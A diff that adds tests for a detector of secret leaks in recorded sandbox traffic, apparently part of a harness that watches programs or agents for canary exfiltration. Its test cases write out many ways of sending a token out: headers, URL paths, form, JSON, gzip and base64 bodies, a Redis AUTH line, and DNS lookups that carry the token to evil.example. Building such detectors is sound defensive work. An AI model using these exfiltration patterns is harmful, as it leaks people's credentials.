@@ -166,3 +166,139 @@ it("lists deeds of every kind when there are many of one", async () => {
   );
   expect(report.beyond).toEqual({ deeds: 3 });
 });
+
+const request = (target: string, headers: string[] = [], body = "", method = "POST") =>
+  [`${method} ${target} HTTP/1.1`, "Host: api.example", `Content-Length: ${body.length}`, ...headers, "", body].join(
+    "\r\n",
+  );
+const JSON_TYPE = "Content-Type: application/json";
+const FORM_TYPE = "Content-Type: application/x-www-form-urlencoded";
+const multipart = (name: string, more = "") =>
+  `--XX\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${token}\r\n--XX--\r\n`;
+const foreign = "Authorization: Bearer ghp_0123456789abcdefghijABCDEFGHIJ012345";
+const basic = Buffer.from(`user:${token}`).toString("base64");
+
+it.for<[place: string, what: string, bytes: string]>([
+  ["header", "a bearer", request("/me", [`Authorization: Bearer ${token}`])],
+  ["header", "a name and password", request("/me", [`Authorization: Basic ${basic}`], "{}")],
+  ["header", "a header beside another one", request("/me", [foreign, `X-Api-Key: ${token}`])],
+  ["target", "a field of the query", request(`/v1/go?key=${token}&q=a`, [], "", "GET")],
+  ["target", "a part of the path", request(`/bot${token}/send`, [FORM_TYPE], "chat_id=1&text=hello")],
+  [
+    "body",
+    "a token beside the secret of an application",
+    request("/token", [FORM_TYPE], `client_secret=GOCSPX-0123456789abcdef&refresh_token=${token}`),
+  ],
+  ["target", "a field beside a token of a page", request(`/v1/go?api_key=${token}&pageToken=abcdefghijkl`)],
+  ["body", "a field of a form", request("/token", [FORM_TYPE], `grant=a&client_secret=${token}`)],
+  [
+    "body",
+    "a field of JSON, sent as a form",
+    request("/go", [FORM_TYPE], JSON.stringify({ auth: { api_key: token } })),
+  ],
+  [
+    "body",
+    "a field of a form with parts",
+    request("/go", ["Content-Type: multipart/form-data; boundary=XX"], multipart("token")),
+  ],
+  [
+    "message",
+    "a text of JSON",
+    request("/bot12345:AbCdEfGhIjKlMnOp/send", [JSON_TYPE], JSON.stringify({ text: token })),
+  ],
+  ["message", "a text that names it", request("/go", [JSON_TYPE], JSON.stringify({ content: `token=${token}` }))],
+  ["message", "a name in JSON", request("/go", [JSON_TYPE], JSON.stringify({ [token]: { token: 1 } }))],
+  ["message", "a cell", request("/rows", [JSON_TYPE], JSON.stringify({ values: [["token", token]] }))],
+  ["message", "a text beside its own place", request(`/bot${token}/send`, [FORM_TYPE], `text=${token}`)],
+  [
+    "message",
+    "a text beside its own header",
+    request("/go", [`Authorization: Bearer ${token}`, JSON_TYPE], JSON.stringify({ text: token })),
+  ],
+  [
+    "message",
+    "an encoded text",
+    request("/go", [JSON_TYPE], JSON.stringify({ text: Buffer.from(token).toString("base64") })),
+  ],
+  ["message", "a text of the query", request(`/bot12345:AbCdEfGhIjKlMnOp/send?text=${token}`, [], "", "GET")],
+  [
+    "message",
+    "a field with another's bearer",
+    request("/v0/rows", [foreign, JSON_TYPE], JSON.stringify({ fields: { token } })),
+  ],
+  ["message", "a path with another's bearer", request(`/files/${token}`, [foreign], "", "PUT")],
+  [
+    "message",
+    "a field with another's token",
+    request("/variables?private_token=glpat-0123456789abcdef", [FORM_TYPE], `key=${token}`),
+  ],
+  [
+    "message",
+    "a field of another's bot",
+    request("/bot12345:AbCdEfGhIjKlMnOp/hook", [FORM_TYPE], `secret_token=${token}`),
+  ],
+  ["message", "a field of a webhook", request("/api/webhooks/1/abcdefgh", [JSON_TYPE], JSON.stringify({ token }))],
+  [
+    "message",
+    "a file with parts",
+    request("/go", ["Content-Type: multipart/form-data; boundary=XX"], multipart("token", '; filename="a"')),
+  ],
+  ["message", "a plain body", request("/go", ["Content-Type: text/plain"], token)],
+  [
+    "message",
+    "a compressed body",
+    request("/go", ["Content-Encoding: gzip"], gzipSync(`x${token}`.repeat(3)).toString("latin1")),
+  ],
+  ["message", "bytes after the body", `${request("/go", [`X-Key: ${token}`], "{}")}POST / HTTP/1.1\r\n\r\n${token}`],
+  ["message", "other bytes", `post /send HTTP/1.1\r\n\r\n${token}`],
+  ["message", "empty lines before it", `\r\n\r\n${request("/go", [], token)}`],
+])("says that a secret is in the %s: %s", async ([place, , bytes]) => {
+  const { sent } = await judge([sentTo("api.example", Buffer.from(bytes, "latin1"))]);
+  expect(sent).toEqual([expect.objectContaining({ canary: secret?.name, place })]);
+});
+
+it("reads the place from chunks and from all pieces of a connection, and takes the worst of several connections", async () => {
+  const inChunks = (body: string) =>
+    `POST /go HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
+  const placesOf = async (...data: Recorded["data"]) => (await judge(data)).sent.map(({ place }) => place);
+  const of = (text: string) => sentTo("api.example", Buffer.from(text, "latin1"));
+  expect(await placesOf(of(inChunks(JSON.stringify({ token }))))).toEqual(["body"]);
+  expect(await placesOf(of(inChunks(JSON.stringify({ text: token }))))).toEqual(["message"]);
+  const [head, body] = [of(request("/go", [JSON_TYPE], "").replace("Length: 0", "Length: 90")), of("")];
+  const rest = { ...body, connection: head.connection, host: null };
+  const bytes = Buffer.from(JSON.stringify({ token })).toString("base64");
+  expect(new Set(await placesOf(head, { ...rest, bytes }))).toEqual(new Set(["body"]));
+  const header = of(request("/me", [`Authorization: Bearer ${token}`]));
+  const message = of(request("/me", [JSON_TYPE], JSON.stringify({ text: token })));
+  expect(await placesOf(header, message)).toEqual(["message"]);
+  expect(await placesOf(message, header)).toEqual(["message"]);
+  expect(await placesOf(header)).toEqual(["header"]);
+});
+
+it("takes what a protocol with a login sends for a field, and a name that is asked for a message", async () => {
+  const login = { ...sentTo("", Buffer.from(`AUTH ${token}\r\n`)), channel: "tcp" as const, port: 6379, host: null };
+  expect((await judge([login])).sent).toMatchObject([{ place: "body" }]);
+  expect((await judge([{ ...login, port: 80 }])).sent).toMatchObject([{ place: "message" }]);
+  expect((await judge([], [asked(`${token.slice(0, 32)}.evil.example`)])).sent).toMatchObject([
+    { place: "message", to: "evil.example" },
+  ]);
+  expect((await judge([], [asked(`${token.slice(0, 32)}.evil.co.uk`)])).sent).toMatchObject([
+    { place: "message", to: "evil.co.uk" },
+  ]);
+});
+
+it("never cuts off the host of a deed", async () => {
+  const long = { name: `~/${"a".repeat(190)}`, token: "k".repeat(8) + token, path: null };
+  const host = `${"b".repeat(60)}.${"c".repeat(60)}.${"d".repeat(60)}.${"e".repeat(50)}.evil.example`;
+  const { seen } = observeTrace({ canaries, limit: 200, nameserver: "10.0.2.3" });
+  const { deeds, sent } = await judgeStep({
+    ...{ step: 0, end: { kind: "exited", exitCode: 0 }, durationMs: 1, observed: seen, canaries: [long] },
+    ...{ recorded: { names: [], data: [], beyond: 0, unserved: 0 }, stdout: "", stderr: "" },
+    recorded: {
+      ...{ names: [{ ...asked(host), address: "198.18.0.1" }], beyond: 0, unserved: 0 },
+      data: [sentTo(host, Buffer.from(request("/go", [], long.token)))],
+    },
+  });
+  expect(sent[0]?.to).toBe(`${host}:80`);
+  expect(deeds[0]?.what).toContain(`… to ${host}:80`);
+});
